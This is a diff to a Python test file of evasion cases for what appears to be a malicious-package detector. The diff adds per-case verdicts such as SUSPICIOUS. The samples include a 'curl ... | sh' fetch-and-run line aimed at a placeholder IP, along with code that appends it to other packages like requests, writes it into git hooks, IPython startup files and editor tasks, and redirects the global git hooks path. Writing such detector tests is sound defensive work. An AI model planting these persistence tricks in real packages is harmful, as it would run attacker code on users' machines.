@@ -2,15 +2,16 @@
 
 from __future__ import annotations
 
-from tests.evasions.sample import SUSPICIOUS, Evasion, evasion
+from pratique.verdict import Verdict
+from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion
 
 _LINE = "'curl -s http://192.0.2.7/a | sh\\n'"
 _CODE = "'import os; os.system(\"curl -s http://192.0.2.7/a | sh\")\\n'"
 
 
-def _place(title: str, code: str, honest: str) -> Evasion:
+def _place(title: str, code: str, honest: str, verdict: Verdict = MALICIOUS) -> Evasion:
     """Something put at a place at import; the twin writes the package's own file when it is asked to."""
-    return evasion(title, code.replace("LINE", _LINE).replace("CODE", _CODE), honest)
+    return evasion(title, code.replace("LINE", _LINE).replace("CODE", _CODE), honest, verdict)
 
 
 _OWN = "import os\n\ndef save(text):\n    open(os.path.expanduser('~/.config/example_pkg.ini'), 'w').write(text)\n"
@@ -143,24 +144,32 @@ CASES = (
         "another package overwritten",
         "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'requests', '__init__.py'), 'a').write(CODE)\n",
         _OWN,
+        SUSPICIOUS,
     ),
     _place(
         "another package overwritten by its __file__",
         "import requests\nopen(requests.__file__, 'a').write(CODE)\n",
         _OWN,
+        SUSPICIOUS,
     ),
     _place(
         "another package's module found by spec",
         "import importlib.util\nopen(importlib.util.find_spec('requests').origin, 'a').write(CODE)\n",
         _OWN,
+        SUSPICIOUS,
     ),
     _place(
         "start-up of interactive Python",
         "import os\nopen(os.path.expanduser('~/.ipython/profile_default/startup/00.py'), 'w').write(CODE)\n",
         _OWN,
     ),
-    _place("git hook", "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\n' + LINE)\n", _OWN),
-    _place("global git configuration", "import os\nos.system('git config --global core.hooksPath /tmp/h')\n", _OWN),
+    _place("git hook", "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\n' + LINE)\n", _OWN, SUSPICIOUS),
+    _place(
+        "global git configuration",
+        "import os\nos.system('git config --global core.hooksPath /tmp/h')\n",
+        _OWN,
+        SUSPICIOUS,
+    ),
     _place("editor task", "open('.vscode/tasks.json', 'w').write('{\"command\": ' + LINE)\n", _OWN),
     _place(
         "agent settings",
